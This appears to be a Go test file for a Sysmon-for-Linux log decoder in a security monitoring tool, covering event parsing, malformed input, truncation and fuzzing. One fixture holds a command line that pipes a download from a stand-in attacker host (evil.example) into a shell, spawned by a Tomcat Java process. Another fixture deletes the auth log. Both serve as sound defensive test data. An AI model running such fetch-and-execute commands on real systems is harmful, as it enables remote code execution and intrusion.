package sysmonlinux

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/decode/internal/dectest"
	"github.com/vigil-sec/vigil/event"
)

func TestEvents(t *testing.T) {
	lines := dectest.Lines(t, filepath.Join("testdata", "sysmon.log"))
	cases := []struct {
		category string
		kv       []string
	}{
		{"process_creation", []string{"EventID", "1", "Image", "/usr/bin/bash", "CommandLine", `bash -c "curl http://evil.example/x | sh" && echo <done>`,
			"ParentImage", "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java", "User", "tomcat", "CurrentDirectory", "/opt/tomcat",
			"Provider_Name", "Linux-Sysmon", "Channel", "Linux-Sysmon/Operational", "Computer", "web01", "Execution_ProcessID", "1590",
			"process.executable", "/usr/bin/bash", "process.name", "bash", "process.pid", "17790", "process.parent.executable", "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java",
			"process.command_line", `bash -c "curl http://evil.example/x | sh" && echo <done>`, "user.name", "tomcat", "host.name", "web01", "event.code", "1"}},
		{"network_connection", []string{"EventID", "3", "DestinationIp", "192.168.2.6", "DestinationPort", "443", "Initiated", "true",
			"source.ip", "192.168.2.5", "source.port", "45678", "destination.ip", "192.168.2.6", "destination.port", "443", "network.transport", "tcp"}},
		{"file_event", []string{"EventID", "11", "TargetFilename", "/tmp/x.sh", "file.path", "/tmp/x.sh", "Image", "/usr/bin/curl"}},
		{"file_delete", []string{"EventID", "23", "TargetFilename", "/var/log/auth.log"}},
		{"process_termination", []string{"EventID", "5", "Image", "/usr/bin/bash"}},
	}
	if len(lines) != len(cases) {
		t.Fatalf("%d lines, %d cases", len(lines), len(cases))
	}
	for i, c := range cases {
		ev, err := dectest.DecodeLine(New(), lines[i], time.Time{})
		if err != nil {
			t.Fatalf("line %d: %v", i+1, err)
		}
		if ev.Logsource != (event.Logsource{Product: "linux", Category: c.category, Service: "sysmon"}) {
			t.Errorf("line %d: logsource %+v", i+1, ev.Logsource)
		}
		if !ev.Time.Equal(time.Date(2024, 5, 11, 18, 10, 20, 399931000, time.UTC)) {
			t.Errorf("line %d: time %v", i+1, ev.Time)
		}
		for j := 0; j < len(c.kv); j += 2 {
			if got, _ := ev.Get(c.kv[j]); got != c.kv[j+1] {
				t.Errorf("line %d: %s = %q, want %q", i+1, c.kv[j], got, c.kv[j+1])
			}
		}
		if Sniff([]byte(lines[i])) < 90 {
			t.Errorf("line %d not sniffed", i+1)
		}
	}
}

func TestBad(t *testing.T) {
	head := `<Event><System><Provider Name="Linux-Sysmon"/>`
	dectest.CheckBad(t, Format, New, []dectest.Bad{
		{Rec: "May 11 18:10:20 web01 sysmon: hello", Reason: "no <Event>"},
		{Rec: `<Event><EventData></EventData></Event>`, Reason: "no <System>"},
		{Rec: head + `<EventID>1</EventID>`, Reason: "<System> not closed", Offset: 15},
		{Rec: head + `</System>`, Reason: "no <EventID>"},
		{Rec: head + `<EventID>1</System>`, Reason: "no end tag", Offset: 46},
		{Rec: head + `<Level x=1/></System>`, Reason: "malformed attribute", Offset: 53},
		{Rec: head + `<EventID>1</EventID></System><EventData><Data Name="Image">/bin/sh</EventData></Event>`, Reason: `<Data Name="Image"> not closed`, Offset: 105},
	})
}

// TestTruncated: a message cut by syslog's size limit inside a Data value
// keeps what is there, marked.
func TestTruncated(t *testing.T) {
	line := `May 11 18:10:20 web01 sysmon: <Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID></System><EventData><Data Name="Image">/usr/bin/bash</Data><Data Name="CommandLine">bash -c x -Dcatalina.base=/opt/tom`
	ev, err := dectest.DecodeLine(New(), line, time.Time{})
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range map[string]string{"Image": "/usr/bin/bash", "CommandLine": "bash -c x -Dcatalina.base=/opt/tom", "truncated": "true"} {
		if got, _ := ev.Get(k); got != v {
			t.Errorf("%s = %q, want %q", k, got, v)
		}
	}
}

func TestRegistered(t *testing.T) { dectest.Registered[*Decoder](t, Format) }

func FuzzDecode(f *testing.F) {
	b, err := os.ReadFile(filepath.Join("testdata", "sysmon.log"))
	if err != nil {
		f.Fatal(err)
	}
	for _, l := range strings.Split(string(b), "\n") {
		f.Add([]byte(l))
	}
	f.Add([]byte(`<Event><System><EventID>1</EventID></System><EventData><Data Name="a">&#x41;&#99999999;&bogus;&</Data></EventData></Event>`))
	dectest.Fuzz(f, New(), Sniff, time.Time{}, func(t *testing.T, ev *event.Event) {
		if ev.Common[event.EventCode] == "" {
			t.Fatalf("decoded without an EventID")
		}
	})
}
